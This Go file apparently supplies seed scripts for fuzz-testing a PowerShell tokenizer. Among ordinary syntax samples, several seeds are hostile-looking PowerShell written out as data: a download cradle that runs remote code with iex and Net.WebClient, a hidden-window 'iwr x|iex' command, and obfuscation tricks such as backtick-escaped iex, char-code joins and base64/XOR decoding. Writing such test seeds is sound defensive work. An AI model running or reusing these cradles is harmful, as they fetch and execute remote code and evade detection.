package pwsh

// tokenizerSeeds are hand-written scripts covering the token kinds; the fuzz
// targets add generated mutations and the corpus tests add real scripts.
func tokenizerSeeds() []string {
	return []string{
		"$x=[char]105+[char]101; iex (New-Object Net.WebClient).DownloadString(\"http://a/$($y.z)\")",
		"((105,101,120) | % {[char]$_}) -join '' | i`e`x",
		"powershell -w h -nop -c \"iwr x|iex\"",
		"$env:comspec[4,15,25]-join''; \"{1}{0}\" -f 'ex','i'",
		"Get-Item $a.b -Name:x @args 2>&1 >> out.txt # c\n<# b #>@\"\nhi $x\n\"@",
		"@'\nverbatim ''x''\n'@\n${a b}=1kb+0x1fL+1.5e3d",
		"function global:Foo-Bar { param([Parameter(Mandatory)][string[]]$x) begin {} process { $x } }",
		"if ($a -ceq 'b') { 1 } elseif (!$c) { 2 } else { 3 }; foreach ($i in 1..10) { $i++ }",
		"$h = @{ Name = 'x'; 'k' = @(1,2) }; $h.Name; [System.Text.Encoding]::UTF8.GetString($b)",
		"cmd /c echo --% %PATH% | more",
		"‘smart’ + “quotes” –join ‘’",
		"& ('ne'+'w-'+'item') $eNV:teMP\\x -itemtype DIrectOry;[Net.ServicePointManager]::\"SecURi`T`ypRO`T`oCOL\" = 'tls12'",
		"$a = `\n  1 +\n  2",
		"\"unterminated $(\"nested\" + ')')",
		"$s[-1..-($s.Length)] -join ''",
		"[regex]::Matches($s, '.', 'RightToLeft') | % { $_.Value }",
		"$b = [Convert]::FromBase64String('aWV4'); $z = $b | % { $_ -bxor 0x55 }",
		":outer while ($true) { break outer }",
		"$x ?? 'y'; $a?.b; ${c}?.d",
		"try { throw 'x' } catch [System.Exception] { $_ } finally { }",
	}
}
